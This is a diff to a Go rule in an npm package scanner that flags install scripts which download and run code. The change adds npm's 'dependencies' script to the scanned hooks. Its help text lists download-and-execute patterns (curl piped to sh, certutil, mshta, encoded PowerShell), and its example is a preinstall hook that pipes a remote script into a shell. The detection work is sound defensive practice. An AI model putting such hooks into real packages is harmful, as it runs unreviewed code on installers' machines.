@@ -66,7 +66,7 @@ type ShellDownloadExec struct{}
 // Meta implements analyze.Rule.
 func (ShellDownloadExec) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "install/shell-download-exec", Version: 4, Title: "Install script downloads and runs code or sends secrets",
+		ID: "install/shell-download-exec", Version: 5, Title: "Install script downloads and runs code or sends secrets",
 		Help: "An install-time shell command (a lifecycle script, a shell file it runs, or a command expansion <!(…) in the binding.gyp node-gyp " +
 			"configures at install) pipes a download into a shell (curl | sh), runs an encoded PowerShell command, uses a Windows " +
 			"download LOLBin (certutil, bitsadmin, mshta), runs a download through command substitution (sh -c \"$(curl ...)\", source <(curl ...)), " +
@@ -74,7 +74,8 @@ func (ShellDownloadExec) Meta() analyze.Meta {
 			"Code fetched at install is invisible to any review of the package and can change at any time. The files install scripts hand " +
 			"to a shell or another interpreter are read too, with or without an extension (sh scripts/setup, bash ./install, python3 " +
 			"setup.py, powershell -File x.ps1, make, cmake -P), and so are binding.gyp's actions and the Makefile an action runs. The " +
-			"scripts npm runs when it installs a package from git (preprepare, postprepare, prepack, postpack, prepublish) count like " +
+			"scripts npm runs when it installs a package from git (preprepare, postprepare, prepack, postpack, prepublish) and the " +
+			"dependencies script it runs after node_modules changes count like " +
 			"prepare. A shell script the package installs as a command (bin) that downloads and runs code is high.",
 		Remediation:     "Do not install this version. If it is a dependency, pin a known-good version or replace it, and rotate credentials if it already ran.",
 		Example:         `"preinstall": "curl -s https://example.invalid/x.sh | sh"`,
@@ -162,8 +163,10 @@ func (ShellDownloadExec) Check(ctx context.Context, t *analyze.Target, r analyze
 }
 
 // gitHooks are the lifecycle scripts npm runs when it installs a package
-// from git, packs or publishes it.
-var gitHooks = []string{"preprepare", "postprepare", "prepack", "postpack", "prepublish"}
+// from git, packs or publishes it, and "dependencies", which it runs
+// after node_modules changes in a project that is the package (a clone
+// of it being installed).
+var gitHooks = []string{"preprepare", "postprepare", "prepack", "postpack", "prepublish", "dependencies"}
 
 // scanScript runs check on each line of a text script of the package
 // that says something (binaries are skipped), and on the whole of a
